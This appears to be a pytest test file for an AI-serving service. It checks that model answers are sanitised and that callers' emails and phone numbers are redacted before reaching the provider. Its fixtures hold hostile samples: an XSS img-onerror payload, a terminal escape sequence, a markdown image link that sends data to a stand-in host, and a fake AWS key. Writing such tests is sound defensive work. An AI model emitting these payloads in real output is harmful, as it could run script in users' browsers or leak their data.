"""What a model says is made harmless on its way out, and what callers hold dear is hidden on its way in."""

import json

import pytest

from tests.providers_e2e.conftest import Serve
from tests.support.model_server import ModelServer
from tests.support.service import OTHER_API_KEY, Service
from tests.support.traffic import ROOT, body, events, new_text, post, said, streamed

HARMFUL = "Late.\x1b[2J <img src=x onerror=alert(1)> ![x](https://evil.example/?q=tea) AKIAQ3ZT7MNB2XKWPLDV"
HARMLESS = "Late.\u241b[2J &lt;img src=x onerror=alert(1)> ![x](hxxps://evil.example/?q=tea) (secret)"
MAIL, PHONE = "canary-mail@example.org", "+44 20 7946 0958"


@pytest.mark.parametrize("chunks", [0, 1, 5, 60])
def test_a_harmful_answer_is_made_harmless_in_a_stream_and_in_what_is_kept(
    service: Service, model: ModelServer, chunks: int
) -> None:
    model.behave(text=HARMFUL, chunks=chunks)
    request = body("qa")
    stream = streamed(service, request)
    assert (said(stream), stream[-1].data["result"]) == (HARMLESS, HARMLESS)
    kept = post(service, request).json()
    assert (kept["source"], kept["result"]) == ("cache", HARMLESS)


def test_a_harmful_answer_is_made_harmless_as_a_whole_and_inside_a_type(service: Service, model: ModelServer) -> None:
    model.behave(text=HARMFUL)
    assert post(service, body("qa")).json()["result"] == HARMLESS
    model.behave(text=json.dumps([HARMFUL] * 5))
    assert set(post(service, body("key_points")).json()["result"]) == {HARMLESS}


@pytest.mark.parametrize("path", ["process", "stream"])
def test_a_private_key_is_no_answer(service: Service, model: ModelServer, path: str) -> None:
    model.behave(text="-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n")
    response = post(service, body("qa"), path)
    assert "provider_bad_answer" in response.text
    assert "MIIEvQ" not in response.text


def test_answers_link_to_listed_hosts_and_to_those_of_the_text(serve: Serve, model: ModelServer) -> None:
    service = serve(AI_LINK_HOSTS="docs.example, *.wide.example")
    text = f"{new_text()} See https://tea.example/menu."
    model.behave(text="https://docs.example/a https://b.wide.example https://tea.example/menu https://wide.example/")
    result = post(service, body("qa", text)).json()["result"]
    assert result == "https://docs.example/a https://b.wide.example https://tea.example/menu hxxps://wide.example/"


@pytest.mark.parametrize("chunks", [0, 1, 30])
def test_the_provider_reads_placeholders_and_the_caller_reads_values(
    serve: Serve, model: ModelServer, chunks: int
) -> None:
    service = serve(PII_REDACTION="on")
    text = f"{new_text()} Write to {MAIL} or call {PHONE}."
    model.behave(text="Call <PHONE_1> or write to <EMAIL_1>, not <EMAIL_2>.", chunks=chunks)
    expected = f"Call {PHONE} or write to {MAIL}, not <EMAIL_2>."
    stream = streamed(service, body("qa", text))
    assert (said(stream), stream[-1].data["result"]) == (expected, expected)
    assert post(service, body("qa", text)).json()["result"] == expected
    calls = json.dumps(model.calls())
    assert len(model.calls()) == 1
    assert "<EMAIL_1>" in calls
    assert MAIL not in calls + service.output()
    assert "7946" not in calls


def test_a_restored_answer_is_for_its_caller_alone(serve: Serve, model: ModelServer) -> None:
    service = serve(PII_REDACTION="on")
    request = body("qa", f"{new_text()} Write to {MAIL}.")
    model.behave(text="Write to <EMAIL_1>.")
    assert post(service, request).json()["source"] == "model"
    with service.connect(OTHER_API_KEY) as other:
        reply = other.post(f"{ROOT}/process", json=request).json()
    assert (reply["source"], reply["result"]) == ("model", f"Write to {MAIL}.")
    assert post(service, request).json()["source"] == "cache"


def test_a_batch_and_a_stream_of_a_type_are_restored_too(serve: Serve, model: ModelServer) -> None:
    service = serve(PII_REDACTION="on")
    text = f"{new_text()} Write to {MAIL}."
    model.behave(text=json.dumps(["<EMAIL_1>"] * 5))
    batch = post(service, {"requests": [body("key_points", text)]}, "batch_process").json()
    assert set(batch["results"][0]["response"]["result"]) == {MAIL}
    stream = list(events(post(service, body("key_points", text), "stream").text.split("\n")))
    assert set(stream[-1].data["result"]) == {MAIL}
